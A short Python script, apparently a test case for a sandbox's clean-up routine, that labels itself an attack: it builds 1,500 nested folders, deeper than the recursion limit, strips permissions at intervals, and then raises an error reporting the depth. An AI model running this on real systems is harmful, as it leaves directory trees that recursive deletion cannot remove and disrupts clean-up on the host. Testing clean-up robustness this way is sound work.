# attack: leave 1,500 nested folders (deeper than the recursion limit), some without permissions, for the clean-up to trip on
# %%
import os
top = os.open(".", os.O_RDONLY)
current = os.dup(top)
for depth in range(1500):
    name = "d"
    try:
        os.mkdir(name, dir_fd=current)
        following = os.open(name, os.O_RDONLY, dir_fd=current)
    except OSError:
        break
    if depth % 300 == 299:
        os.fchmod(current, 0)
    os.close(current)
    current = following
os.close(current)
raise RuntimeError("REPORT depth=%d" % depth)
